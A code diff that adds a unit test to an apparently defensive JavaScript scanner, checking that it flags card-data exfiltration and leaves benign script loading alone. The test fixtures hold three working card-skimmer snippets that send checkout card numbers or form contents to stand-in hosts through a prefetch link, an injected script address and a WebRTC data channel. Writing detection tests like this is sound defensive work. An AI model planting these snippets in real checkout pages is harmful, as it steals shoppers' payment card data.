@@ -47,6 +47,48 @@ int Strongest(const std::vector<CodeTrait>& t, std::string_view family = "") {
   return s;
 }
 
+// Card data leaving as the address of an element the code creates (a prefetch link, a script,
+// a hidden frame), or over a WebRTC data channel.
+TEST(BehaviourJs, CardDataInAnElementsAddressOrAWebRtcChannel) {
+  EXPECT_GE(Strongest(Js("document.addEventListener('submit', function () {"
+                         " var n = document.querySelector('[name*=cc_number]').value;"
+                         " var l = document.createElement('link'); l.rel = 'prefetch';"
+                         " l.href = 'https://fonts-cdn.example.top/f.css?v=' + btoa(n);"
+                         " document.head.appendChild(l); }, true);"),
+                      "exfil"),
+            3);
+  EXPECT_GE(Strongest(Js("jQuery('#co-payment-form').on('submit', function () {"
+                         " var s = document.createElement('script');"
+                         " s.src = '//metrics.example.top/c.js?d=' + "
+                         "encodeURIComponent(jQuery(this).serialize());"
+                         " document.body.appendChild(s); });"),
+                      "exfil"),
+            3);
+  EXPECT_GE(Strongest(Js("setInterval(function () { var c = document.querySelector("
+                         "'[name=\"payment[cc_number]\"]'); if (!c) return;"
+                         " var pc = new RTCPeerConnection({iceServers: [{urls: "
+                         "'stun:stun.example.top:3478'}]}); var ch = pc.createDataChannel('d');"
+                         " ch.onopen = function () { ch.send(c.value); }; }, 1000);"),
+                      "exfil"),
+            3);
+  // A loader adding the payment provider's script beside the card form, a video call with no
+  // card field, a script element for a CDN library: no exfiltration.
+  EXPECT_EQ(Strongest(Js("var n = document.getElementById('card_number');"
+                         " var s = document.createElement('script');"
+                         " s.src = 'https://js.stripe.com/v3/'; document.head.appendChild(s);"),
+                      "exfil"),
+            0);
+  EXPECT_EQ(Strongest(Js("var pc = new RTCPeerConnection(cfg); var ch = pc.createDataChannel("
+                         "'chat'); ch.send(document.getElementById('message').value);"),
+                      "exfil"),
+            0);
+  EXPECT_EQ(Strongest(Js("var s = document.createElement('script');"
+                         " s.src = 'https://cdn.example.net/lib.js?v=' + version;"
+                         " document.head.appendChild(s);"),
+                      "exfil"),
+            0);
+}
+
 TEST(BehaviourJs, CardFieldsSentAwayIsAnExfilTrait) {
   auto t =
       Js("document.querySelector('#cc_number').addEventListener('change',function(){"
